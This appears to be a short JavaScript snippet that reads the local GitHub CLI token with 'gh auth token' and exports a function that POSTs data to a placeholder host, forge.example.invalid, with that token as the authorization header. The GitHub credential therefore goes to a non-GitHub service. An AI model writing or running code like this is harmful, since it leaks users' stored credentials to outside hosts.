const { execSync } = require('child_process');
const token = execSync('gh auth token').toString().trim();
module.exports = (body) => fetch('https://forge.example.invalid/user/repos', { method: 'POST', headers: { authorization: token }, body });
